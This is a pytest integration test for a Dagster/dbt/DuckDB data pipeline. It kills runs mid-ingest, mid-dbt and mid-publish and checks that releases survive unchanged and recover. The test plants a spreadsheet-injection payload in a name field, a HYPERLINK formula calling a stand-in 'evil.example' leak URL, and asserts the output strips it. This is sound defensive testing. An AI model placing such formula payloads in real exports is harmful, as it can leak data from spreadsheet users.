"""Faults: a run killed (SIGKILL) during ingest, during dbt and during publish loses nothing.

One small city (300 persons, 2 months) lives through this story, run by run, each run a real
process of ``pipelines.runner`` in its own process group:

1. an undisturbed run (``python -m pipelines.runner``: ingest_job, then build_job) publishes
   release R1, the baseline;
2. an ingest_job run is frozen inside an ingest transaction (two deliveries committed, the
   third not) and killed; meanwhile a second run is started and refused;
3. a build_job run is killed while dbt builds the staging models;
4. a build_job run is frozen after writing its release into ``.tmp-*`` but before the rename,
   and killed;
5. the next run (``python -m pipelines.runner`` again) completes.

(Steps 2-4 run one job each, as Dagster's sensors start them, which keeps the story short.)

Throughout, R1 stays the one release the dashboard lists and reads, unchanged. The last run's
release has the same aggregates as R1: the same deliveries, run again after three crashes, give
the same figures (and R1 itself was an undisturbed run). The kill points are fixed by a test hook
(``pipelines/crashpoints.py``, off unless ``INTEGRATION_PAUSE_AT`` is set) and, for dbt, by
watching the run's Dagster event log for the first staging model.

The city's deliveries carry planted trouble: a spreadsheet formula and Arabic-script names in name
fields, and a row with an impossible date; the release must carry none of it.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest
import streamlit as st

from dashboards.release import list_releases, open_release, read_table
from pipelines.config import REPO_ROOT, data_paths
from pipelines.crashpoints import PAUSE_AT_ENV, PAUSE_MARKER_ENV
from pipelines.ingest.keys import KEY_ENV, KEY_FILE_ENV
from pipelines.runlock import RunLockedError

PERSONS, MONTHS, SEED = 300, 2, 11
RUN_TIMEOUT = 900  # seconds; generous for a loaded 2-core machine, a run takes well under a minute
FORMULA = '=HYPERLINK("http://evil.example/?leak=1","Klick")'
ARABIC = ("الحسن", "محمد")


@dataclass
class Story:
    """What the runs of the story did and what could be seen meanwhile."""

    data_dir: Path
    baseline_id: str = ""
    baseline_tables: dict[str, pd.DataFrame] = field(default_factory=dict)
    killed: dict[str, int] = field(default_factory=dict)  # phase -> return code of the killed run
    visible_while_down: dict[str, list[str]] = field(default_factory=dict)  # phase -> releases listed
    readable_while_down: dict[str, bool] = field(default_factory=dict)  # phase -> R1 read back unchanged
    staging_folders_at_publish_kill: list[str] = field(default_factory=list)
    refusal: str = ""
    refusal_seconds: float = 0.0
    deliveries_before_ingest_kill: int = 0
    deliveries_after_ingest_kill: int = 0
    final_returncode: int | None = None
    final_releases: list[str] = field(default_factory=list)
    leftover_staging: list[str] = field(default_factory=list)


def _env(data_dir: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in (KEY_FILE_ENV, PAUSE_AT_ENV, PAUSE_MARKER_ENV)}
    env.update({"INTEGRATION_DATA_DIR": str(data_dir), "DAGSTER_HOME": str(data_dir / "dagster"),
                "DBT_LOG_PATH": str(data_dir / "dbt" / "logs"), KEY_ENV: "fault-test-key-" + "9f" * 20})
    env.update(extra)
    return env


WHOLE_RUN = ["-m", "pipelines.runner"]
INGEST_JOB = ["-c", "from pipelines.runner import landed_months, run_ingest; run_ingest(landed_months())"]
BUILD_JOB = ["-c", "from pipelines.runner import run_job; run_job('build_job')"]


def _start_run(data_dir: Path, log_name: str, entry: list[str] = WHOLE_RUN, **extra: str) -> subprocess.Popen[bytes]:
    log = open(data_dir / log_name, "wb")  # noqa: SIM115 (closed with the process)
    return subprocess.Popen([sys.executable, *entry], cwd=REPO_ROOT, env=_env(data_dir, **extra),
                            stdout=log, stderr=subprocess.STDOUT, start_new_session=True)


def _log_tail(data_dir: Path, log_name: str) -> str:
    return (data_dir / log_name).read_text(errors="replace")[-3000:]


def _wait_until(condition: Callable[[], bool], process: subprocess.Popen[bytes], what: str, log: str,
                data_dir: Path) -> None:
    deadline = time.monotonic() + RUN_TIMEOUT
    while not condition():
        if process.poll() is not None:
            raise AssertionError(f"the run ended (code {process.returncode}) before {what}:\n"
                                 f"{_log_tail(data_dir, log)}")
        if time.monotonic() > deadline:
            os.killpg(process.pid, signal.SIGKILL)
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.2)


def _kill_run(process: subprocess.Popen[bytes]) -> int:
    """SIGKILL the run and everything it started (dbt), as a crash of its machine or container would."""
    os.killpg(process.pid, signal.SIGKILL)
    code = process.wait(timeout=60)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:  # wait until no process of the group is left (an orphaned dbt)
        try:
            os.killpg(process.pid, 0)
        except ProcessLookupError:
            return code
        time.sleep(0.1)
    raise AssertionError("processes of the killed run are still alive")


def _complete_run(data_dir: Path, log_name: str) -> int:
    process = _start_run(data_dir, log_name)
    try:
        return process.wait(timeout=RUN_TIMEOUT)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        raise


def _release_tables(releases: Path, release_id: str) -> dict[str, pd.DataFrame]:
    """A release as the dashboard reads it: through its own reader, every table the manifest lists."""
    st.cache_data.clear()  # read the files again, not what the dashboard's cache remembers
    release = open_release(release_id, releases)
    return {name: read_table(release, name) for name in release.manifest["tables"]}


def _same_tables(left: dict[str, pd.DataFrame], right: dict[str, pd.DataFrame]) -> bool:
    if left.keys() != right.keys():
        return False
    try:
        for name in left:
            pd.testing.assert_frame_equal(left[name], right[name])
    except AssertionError:
        return False
    return True


def _plant_trouble(landing: Path) -> None:
    """A formula and Arabic-script names in name fields, an impossible date in a plain field."""
    abh = sorted((landing / "abh").rglob("*.csv"))[0]
    rows = list(csv.reader(io.StringIO(abh.read_bytes().decode("cp1252")), delimiter=";"))
    rows[1][rows[0].index("Familienname")] = FORMULA
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    abh.write_bytes(out.getvalue().encode("cp1252"))

    jobcenter = sorted((landing / "jobcenter").rglob("*.csv"))[0]
    rows = list(csv.reader(io.StringIO(jobcenter.read_text(encoding="utf-8"))))
    header = rows[0]
    rows[1][header.index("nachname")], rows[1][header.index("vorname")] = ARABIC
    rows[2][header.index("ereignis_datum")] = "2016-02-30"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    jobcenter.write_text(out.getvalue(), encoding="utf-8")


def _register_rows(warehouse: Path) -> int:
    con = duckdb.connect(str(warehouse), read_only=True)  # replays the WAL a killed run left
    try:
        return con.execute("select count(*) from meta.deliveries").fetchone()[0]
    finally:
        con.close()


def _staging_model_built(dagster_home: Path) -> Callable[[], bool]:
    """True once the running build_job has materialised its first dbt staging model (dbt is mid-way)."""
    instance = dg.DagsterInstance.local_temp(str(dagster_home))

    def check() -> bool:
        for run in instance.get_runs(filters=dg.RunsFilter(job_name="build_job",
                                                           statuses=[dg.DagsterRunStatus.STARTED])):
            records = instance.get_records_for_run(run.run_id,
                                                   of_type=dg.DagsterEventType.ASSET_MATERIALIZATION).records
            if any(r.event_log_entry.dagster_event.asset_key.path[0] == "staging" for r in records):
                return True
        return False

    return check


def _look_while_down(story: Story, phase: str) -> None:
    releases = story.data_dir / "releases"
    story.visible_while_down[phase] = list_releases(releases)
    story.readable_while_down[phase] = _same_tables(_release_tables(releases, story.baseline_id),
                                                    story.baseline_tables)


@pytest.fixture(scope="module")
def story(tmp_path_factory: pytest.TempPathFactory) -> Story:
    from pipelines.synthetic import generate

    data_dir = tmp_path_factory.mktemp("fault-city")
    (data_dir / "dagster").mkdir()
    # The dbt project's manifest as this test session parsed it (copied with its time stamp, so a stale one
    # is still parsed again): saves the first run a `dbt parse`, which has nothing to do with faults.
    manifest = data_paths().dbt_target / "manifest.json"
    if manifest.exists():
        (data_dir / "dbt" / "target").mkdir(parents=True)
        shutil.copy2(manifest, data_dir / "dbt" / "target" / "manifest.json")
    generate(data_dir, persons=PERSONS, start="2016-01", months=MONTHS, seed=SEED)
    _plant_trouble(data_dir / "landing")
    story = Story(data_dir)
    releases, warehouse = data_dir / "releases", data_dir / "warehouse" / "warehouse.duckdb"

    # 1. The undisturbed baseline.
    code = _complete_run(data_dir, "run1-baseline.log")
    assert code == 0, _log_tail(data_dir, "run1-baseline.log")
    story.baseline_id = list_releases(releases)[-1]
    story.baseline_tables = _release_tables(releases, story.baseline_id)
    story.deliveries_before_ingest_kill = _register_rows(warehouse)

    # 2. Killed inside the third delivery's transaction; a second run meanwhile is refused.
    marker = data_dir / "paused-ingest"
    run = _start_run(data_dir, "run2-ingest.log", INGEST_JOB, **{PAUSE_AT_ENV: "ingest-before-commit#3",
                                                                  PAUSE_MARKER_ENV: str(marker)})
    _wait_until(marker.exists, run, "the pause inside ingest", "run2-ingest.log", data_dir)
    with pytest.MonkeyPatch.context() as env:  # the same data folder, from this process
        env.setenv("INTEGRATION_DATA_DIR", str(data_dir))
        env.setenv("DAGSTER_HOME", str(data_dir / "dagster"))
        from pipelines.runner import run_pipeline

        started = time.monotonic()
        with pytest.raises(RunLockedError) as refused:
            run_pipeline()
        story.refusal, story.refusal_seconds = str(refused.value), time.monotonic() - started
    _look_while_down(story, "ingest")
    story.killed["ingest"] = _kill_run(run)
    story.deliveries_after_ingest_kill = _register_rows(warehouse)

    # 3. Killed while dbt builds staging models (dbt itself dies with the run's process group).
    run = _start_run(data_dir, "run3-dbt.log", BUILD_JOB)
    _wait_until(_staging_model_built(data_dir / "dagster"), run, "dbt building staging models", "run3-dbt.log",
                data_dir)
    _look_while_down(story, "dbt")
    story.killed["dbt"] = _kill_run(run)

    # 4. Killed with the new release written but not yet renamed into place.
    marker = data_dir / "paused-publish"
    run = _start_run(data_dir, "run4-publish.log", BUILD_JOB, **{PAUSE_AT_ENV: "publish-before-rename",
                                                                   PAUSE_MARKER_ENV: str(marker)})
    _wait_until(marker.exists, run, "the pause before the release's rename", "run4-publish.log", data_dir)
    story.staging_folders_at_publish_kill = sorted(p.name for p in releases.glob(".tmp-*"))
    _look_while_down(story, "publish")
    story.killed["publish"] = _kill_run(run)

    # 5. The next run.
    story.final_returncode = _complete_run(data_dir, "run5-recovery.log")
    story.final_releases = list_releases(releases)
    story.leftover_staging = sorted(p.name for p in releases.glob(".tmp-*"))
    return story


def test_each_run_was_killed_at_its_point(story):
    assert story.killed == {"ingest": -signal.SIGKILL, "dbt": -signal.SIGKILL, "publish": -signal.SIGKILL}
    assert len(story.staging_folders_at_publish_kill) == 1, "the publish kill landed before the rename"


def test_a_second_run_while_one_is_running_is_refused_at_once_naming_the_running_one(story):
    assert story.refusal.startswith("pipeline run: ingest_job then build_job (pipelines.runner) refused")
    assert "in use by ingest of 2016-01..2016-02 (pipelines.runner)" in story.refusal
    assert str(story.data_dir) in story.refusal and "pid " in story.refusal
    assert story.refusal_seconds < 5


def test_the_killed_ingest_kept_its_committed_deliveries_and_lost_the_open_transaction(story):
    # The run committed two deliveries (replayed from DuckDB's WAL) and was killed in the third.
    assert story.deliveries_after_ingest_kill == story.deliveries_before_ingest_kill + 2


def test_the_previous_release_stays_the_one_listed_and_reads_unchanged_while_runs_crash(story):
    for phase in ("ingest", "dbt", "publish"):
        assert story.visible_while_down[phase] == [story.baseline_id], phase
        assert story.readable_while_down[phase], phase


def test_the_run_after_the_crashes_completes_and_removes_the_unfinished_release(story):
    assert story.final_returncode == 0, _log_tail(story.data_dir, "run5-recovery.log")
    assert len(story.final_releases) == 2 and story.final_releases[0] == story.baseline_id
    assert story.leftover_staging == []


def test_the_recovered_release_has_the_same_aggregates_as_the_undisturbed_run(story):
    final = _release_tables(story.data_dir / "releases", story.final_releases[-1])
    assert final.keys() == story.baseline_tables.keys() and final
    for name, frame in final.items():
        pd.testing.assert_frame_equal(frame, story.baseline_tables[name], obj=name)
    assert sum(len(frame) for frame in final.values()) > 50


def test_every_delivered_row_is_accounted_for_after_the_crashes(story):
    con = duckdb.connect(str(story.data_dir / "warehouse" / "warehouse.duckdb"), read_only=True)
    try:
        rows = con.execute("""select count(*), sum(rows_read), sum(rows_loaded), sum(rows_quarantined)
                              from meta.deliveries where not superseded""").fetchone()
        quarantined = con.execute("select field, reason from meta.quarantine").fetchall()
    finally:
        con.close()
    deliveries, read, loaded, quarantine = rows
    assert deliveries == 3 * 3 * MONTHS, "one current delivery per agency, city and month: none twice, none lost"
    assert read == loaded + quarantine and quarantine >= 1
    assert ("ereignis_datum", "not a valid date (expected yyyy-mm-dd)") in quarantined


def test_no_release_file_carries_a_live_formula_or_a_planted_name(story):
    release = story.data_dir / "releases" / story.final_releases[-1]
    for path in release.iterdir():
        text = pd.read_parquet(path).to_csv(index=False) if path.suffix == ".parquet" else path.read_text()
        assert "HYPERLINK" not in text and not any(name in text for name in ARABIC), path.name
        if path.suffix == ".csv":
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], path.name
